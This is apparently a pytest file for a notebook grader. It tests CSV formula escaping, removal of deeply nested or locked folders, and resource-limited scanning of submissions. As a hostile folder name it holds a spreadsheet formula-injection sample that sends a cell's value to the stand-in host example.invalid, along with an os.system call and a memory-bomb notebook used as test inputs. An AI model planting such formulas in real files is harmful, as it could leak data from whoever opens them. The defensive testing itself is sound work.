"""What the grader writes and removes, without grading anything (quick tier): grades.csv cells a spreadsheet cannot
run as formulas, and work folders removed however deep or locked a submission left them (issue 23, items 2 and 4)."""

import csv
import os

from tools.grade import FORMULA_STARTS, Graded, refused, remove_tree, spreadsheet_safe, write_results


def test_cells_that_would_start_a_formula_become_text():
    for start in FORMULA_STARTS:
        assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe("alice") == "alice" and spreadsheet_safe("") == "" and spreadsheet_safe("a=b") == "a=b"


def test_a_hostile_folder_name_lands_in_grades_csv_as_text(tmp_path):
    name = '=HYPERLINK("http://example.invalid/?"&A1, "click")'
    graded = [
        refused(name, name, "not a folder of notebooks"),
        Graded("@SUM(1)", "01_ring_allreduce", {"q1": (2.0, 2.0)}, "", 1.0, "graded", "", "-flag"),
    ]
    grades = tmp_path / "grades.csv"
    write_results(graded, grades, tmp_path / "feedback")
    with open(grades, newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    assert rows[1][0] == "'" + name and rows[1][7].startswith("'" + name)  # student and reason, kept as text
    assert rows[2][:5] == ["'@SUM(1)", "01_ring_allreduce", "q1", "2", "2"]  # the scores stay numbers


def test_a_work_folder_is_removed_however_deep_and_locked(tmp_path):
    # 1,100 nested folders (shutil.rmtree recurses once per level and hits Python's recursion limit) with a file at
    # the bottom, and a folder that its owner may not read, write or enter.
    work = tmp_path / "grade-01-x"
    work.mkdir()
    folder = os.open(work, os.O_RDONLY)
    for _ in range(1100):  # one level at a time, relative to the last (the whole path is longer than PATH_MAX)
        os.mkdir("d", dir_fd=folder)
        inner = os.open("d", os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = inner
    os.close(os.open("answer.txt", os.O_CREAT | os.O_WRONLY, dir_fd=folder))
    os.close(folder)
    locked = work / "locked"
    (locked / "inner").mkdir(parents=True)
    (locked / "inner" / "file").write_text("x")
    locked.chmod(0)
    try:
        remove_tree(work)
    finally:
        if locked.exists():
            locked.chmod(0o700)
    assert not os.path.lexists(work)
    remove_tree(work)  # already gone: nothing to do, nothing raised


def test_the_scan_runs_under_limits_and_flags_what_it_cannot_finish():
    import json

    from tools.grading_scan import scan_bytes, scan_limited, summarise

    honest = json.dumps({"cells": [{"cell_type": "code", "source": "def f(x):\n    return 2 * x"}]}).encode()
    hostile = json.dumps({"cells": [{"cell_type": "code", "source": "import os\nos.system('ls')"}]}).encode()
    for data in (honest, hostile):  # the child process says what the scan says in this one
        assert scan_limited(data) == summarise(scan_bytes(data))
    # 10 MB of source, two million statements: its syntax tree needs far more than 256 MB. The parent (the grader)
    # is not touched; the notebook is flagged.
    bomb = json.dumps({"cells": [{"cell_type": "code", "source": "x=1\n" * 2_000_000}]}).encode()
    assert scan_limited(bomb, address_space_bytes=256 * 2**20).startswith("too large to scan (MemoryError")
    assert scan_limited(honest, timeout_s=1e-3) == "too large to scan (it ran past 0.001 s)"
